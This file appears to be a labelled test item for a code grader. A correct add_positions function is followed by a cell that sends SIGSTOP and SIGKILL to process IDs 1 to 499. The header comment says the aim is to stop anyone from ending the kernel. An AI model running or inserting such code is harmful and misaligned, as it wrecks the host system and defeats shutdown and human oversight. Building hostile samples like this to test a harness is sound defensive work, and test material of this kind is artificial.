# question: add_positions
# expect: full
# heavy: yes
# why: stops, then kills every process that it can number, so that nobody ends the kernel
import os
import signal


def add_positions(token_emb, P):
    return token_emb + P[: token_emb.shape[1]]
# %% after add_positions_check
for _number in range(1, 500):
    for _signal in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if _number != os.getpid():
                os.kill(_number, _signal)
        except OSError:
            continue
